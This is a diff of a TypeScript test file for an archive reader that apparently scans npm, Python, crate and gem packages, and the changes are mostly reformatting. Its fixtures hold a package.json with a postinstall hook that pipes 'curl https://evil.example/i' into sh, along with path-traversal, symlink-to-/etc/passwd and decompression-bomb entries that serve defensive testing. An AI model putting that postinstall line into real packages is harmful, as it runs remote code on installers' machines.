@@ -8,8 +8,15 @@ import { DEFAULT_LIMITS } from './limits.js';
 import { TarSource } from './tar-source.js';
 import { ZipSource } from './zip-source.js';
 import { ArchiveError } from './tar-entries.js';
-// @ts-expect-error: a plain-JS test helper without types
-import { base256, file, header, negative256, pax, tar, tgz } from '../../../../corpus/adversarial/archives/tar-builder.mjs';
+import {
+  base256,
+  file,
+  header,
+  negative256,
+  pax,
+  tar,
+  tgz,
+} from '../../../../corpus/adversarial/archives/tar-builder.mjs';
 
 // Test setup uses the system tar to build real archives; the engine only reads them.
 const work = mkdtempSync(join(tmpdir(), 'inert-tar-'));
@@ -62,15 +69,22 @@ describe('TarSource', () => {
 });
 
 const EVIL = '{"name":"x","scripts":{"postinstall":"curl https://evil.example/i | sh"}}';
-const text = async (source: { read(p: string, n: number): Promise<{ ok: boolean } & ({ ok: true; bytes: Uint8Array } | { ok: false })> }, path: string) => {
+const text = async (
+  source: { read(p: string, n: number): Promise<{ ok: boolean } & ({ ok: true; bytes: Uint8Array } | { ok: false })> },
+  path: string,
+) => {
   const r = await source.read(path, 1 << 20);
   return r.ok ? Buffer.from(r.bytes).toString() : undefined;
 };
-const raw = (name: string, content: string, extra: object) => Buffer.concat([header({ name, ...extra }), Buffer.from(content.padEnd(512, '\0'))]);
+const raw = (name: string, content: string, extra: object) =>
+  Buffer.concat([header({ name, ...extra }), Buffer.from(content.padEnd(512, '\0'))]);
 
 describe('TarSource reads what npm (node-tar) reads', () => {
   it('honours a pax size that overrides the ustar size field', async () => {
-    const source = new TarSource(tgz(pax({ size: EVIL.length }), raw('package/package.json', EVIL, { size: 0 })), 'x.tgz');
+    const source = new TarSource(
+      tgz(pax({ size: EVIL.length }), raw('package/package.json', EVIL, { size: 0 })),
+      'x.tgz',
+    );
     expect(await text(source, 'package.json')).toBe(EVIL);
   });
 
@@ -80,34 +94,67 @@ describe('TarSource reads what npm (node-tar) reads', () => {
   });
 
   it('lets the last entry of a path win, in write order, and normalises the path as the filesystem does', async () => {
-    const source = new TarSource(tgz(file('package/package.json', '{"name":"x"}'), file('package/lib/a.js', ''), file('package//./package.json', EVIL)), 'x.tgz');
+    const source = new TarSource(
+      tgz(
+        file('package/package.json', '{"name":"x"}'),
+        file('package/lib/a.js', ''),
+        file('package//./package.json', EVIL),
+      ),
+      'x.tgz',
+    );
     expect(await text(source, 'package.json')).toBe(EVIL);
-    expect(source.entries().map((e) => [e.path, e.index])).toEqual([['lib/a.js', 1], ['package.json', 2]]);
+    expect(source.entries().map((e) => [e.path, e.index])).toEqual([
+      ['lib/a.js', 1],
+      ['package.json', 2],
+    ]);
   });
 
   it('strips the first segment whatever its name, renames .gitignore as pacote does, skips links and .. paths', async () => {
-    const source = new TarSource(tgz(file('anything/package.json', '{}'), file('anything/.gitignore', 'x'), file('anything/../../etc/x', 'x'), header({ name: 'anything/link', type: '2', linkname: '/etc/passwd' })), 'x.tgz');
+    const source = new TarSource(
+      tgz(
+        file('anything/package.json', '{}'),
+        file('anything/.gitignore', 'x'),
+        file('anything/../../etc/x', 'x'),
+        header({ name: 'anything/link', type: '2', linkname: '/etc/passwd' }),
+      ),
+      'x.tgz',
+    );
     expect(source.entries().map((e) => e.path)).toEqual(['package.json', '.npmignore']);
     expect(source.skippedEntries().map((s) => s.kind)).toEqual(['refused', 'symlink']);
   });
 
   it('a file where a directory of written files is, or under a written file, is not written (the write fails)', async () => {
-    const source = new TarSource(tgz(file('package/a', '1'), file('package/a/b', '2'), file('package/c/d', '3'), file('package/c', '4')), 'x.tgz');
+    const source = new TarSource(
+      tgz(file('package/a', '1'), file('package/a/b', '2'), file('package/c/d', '3'), file('package/c', '4')),
+      'x.tgz',
+    );
     expect(source.entries().map((e) => e.path)).toEqual(['a', 'c/d']);
     expect(source.skippedEntries().map((s) => s.path)).toEqual(['package/a/b', 'package/c']);
     expect(source.skippedEntries().map((s) => s.kind)).toEqual(['refused', 'refused']);
   });
 
   it.each([
-    ['not gzip, not tar', Buffer.from('hello, this is not an archive at all'.repeat(20)), /checksum failure|Unrecognized archive format/],
+    [
+      'not gzip, not tar',
+      Buffer.from('hello, this is not an archive at all'.repeat(20)),
+      /checksum failure|Unrecognized archive format/,
+    ],
     ['empty file', Buffer.alloc(0), /empty/],
     ['only end-of-archive blocks', Buffer.alloc(1024), /Unrecognized|no entries/],
     ['truncated gzip', tgz(file('package/package.json', EVIL)).subarray(0, 60), /unexpected end of file/],
     ['truncated tar', tar(file('package/package.json', EVIL)).subarray(0, 700), /Truncated input/],
     ['bad header checksum', tgz(raw('package/package.json', EVIL, { size: EVIL.length, checksum: false })), /checksum/],
-    ['negative base-256 size', tgz(raw('package/package.json', EVIL, { sizeBytes: negative256(5) })), /TAR_ENTRY_INVALID/],
+    [
+      'negative base-256 size',
+      tgz(raw('package/package.json', EVIL, { sizeBytes: negative256(5) })),
+      /TAR_ENTRY_INVALID/,
+    ],
     ['decompression bomb', tgz(file('package/a', Buffer.alloc(50 * 1024 * 1024))), /decompression ratio/],
-    ['zstd magic with a body no decoder accepts', Buffer.concat([Buffer.from([0x28, 0xb5, 0x2f, 0xfd]), Buffer.alloc(600, 1)]), /ZstdDecompress|zstd|Unknown frame|TAR_ABORT/i],
+    [
+      'zstd magic with a body no decoder accepts',
+      Buffer.concat([Buffer.from([0x28, 0xb5, 0x2f, 0xfd]), Buffer.alloc(600, 1)]),
+      /ZstdDecompress|zstd|Unknown frame|TAR_ABORT/i,
+    ],
   ])('%s is an error naming the archive, never an empty scan', (_name, bytes, reason) => {
     expect(() => new TarSource(bytes, 'evil-1.0.0.tgz')).toThrow(ArchiveError);
     expect(() => new TarSource(bytes, 'evil-1.0.0.tgz')).toThrow(/evil-1\.0\.0\.tgz/);
@@ -119,19 +166,28 @@ describe('TarSource reads what npm (node-tar) reads', () => {
     expect([shared.kind, shared.entries().map((e) => e.path)]).toEqual(['sdist', ['setup.py', 'PKG-INFO']]);
     const mixed = new TarSource(tgz(file('x-1.0/setup.py', 'a'), file('other/PKG-INFO', 'b')), 'x-1.0.tar.gz');
     expect(mixed.entries().map((e) => e.path)).toEqual(['x-1.0/setup.py', 'other/PKG-INFO']);
-    const crate = new TarSource(tgz(file('c-0.1.0/build.rs', 'fn main(){}'), file('c-0.1.0/Cargo.toml', '[package]')), 'c-0.1.0.crate');
+    const crate = new TarSource(
+      tgz(file('c-0.1.0/build.rs', 'fn main(){}'), file('c-0.1.0/Cargo.toml', '[package]')),
+      'c-0.1.0.crate',
+    );
     expect([crate.kind, crate.entries().map((e) => e.path)]).toEqual(['crate', ['build.rs', 'Cargo.toml']]);
   });
 
   it('a .gem with two data.tar.gz, or none, is an error', () => {
     const data = tgz(file('lib/x.rb', ''));
-    expect(() => new TarSource(tar(file('metadata.gz', gzipSync('---')), file('data.tar.gz', data), file('data.tar.gz', data)), 'x.gem')).toThrow(/appears 2 times/);
+    expect(
+      () =>
+        new TarSource(
+          tar(file('metadata.gz', gzipSync('---')), file('data.tar.gz', data), file('data.tar.gz', data)),
+          'x.gem',
+        ),
+    ).toThrow(/appears 2 times/);
     expect(() => new TarSource(tar(file('metadata.gz', gzipSync('---'))), 'x.gem')).toThrow(/no data.tar.gz/);
   });
 });
 
 describe('ZipSource (wheels)', () => {
-  it('reads a wheel with pip\'s names, the last entry of a name winning', async () => {
+  it("reads a wheel with pip's names, the last entry of a name winning", async () => {
     const dir = join(work, 'whl');
     mkdirSync(join(dir, 'pkg'), { recursive: true });
     writeFileSync(join(dir, 'pkg', '__init__.py'), 'import os');
